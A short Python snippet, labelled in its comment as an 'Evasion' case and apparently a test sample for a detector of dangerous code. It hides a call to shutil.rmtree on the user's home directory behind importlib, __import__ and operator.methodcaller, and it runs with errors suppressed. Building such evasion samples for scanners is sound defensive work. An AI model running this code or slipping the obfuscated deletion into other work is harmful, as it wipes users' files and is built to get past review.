# Evasion: an imported-by-name module handed to a methodcaller that
# removes the home directory tree, the caller built inline.
import importlib
from operator import methodcaller

home = __import__("os").path.expanduser("~")
methodcaller("rmtree", home, ignore_errors=True)(importlib.import_module("shutil"))
